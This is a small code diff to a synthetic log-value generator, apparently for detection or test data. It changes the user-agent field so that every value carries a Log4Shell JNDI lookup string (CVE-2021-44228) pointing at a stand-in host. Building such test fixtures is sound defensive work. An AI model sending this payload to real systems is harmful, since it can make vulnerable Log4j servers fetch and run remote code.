@@ -71,7 +71,8 @@ def synth_value(name, rng, ts, fmt):
     if low.endswith("ip"):
         return "192.0.2.%d" % rng.randint(1, 254)
     if "useragent" in low:
-        return rng.choice(["curl/8.5.0", "Mozilla/5.0", "${jndi:ldap://example.invalid/a}"])
+        # always carries `${` so that the CVE-2021-44228 option is visible in every batch
+        return rng.choice(["curl/8.5.0", "Mozilla/5.0"]) + " ${jndi:ldap://example.invalid/a}"
     if any(k in low for k in ("status", "bytes", "port", "count", "ms", "asn", "score", "id")):
         return rng.randint(1, 599)
     if low.startswith("is") or "passed" in low or low.endswith("used"):
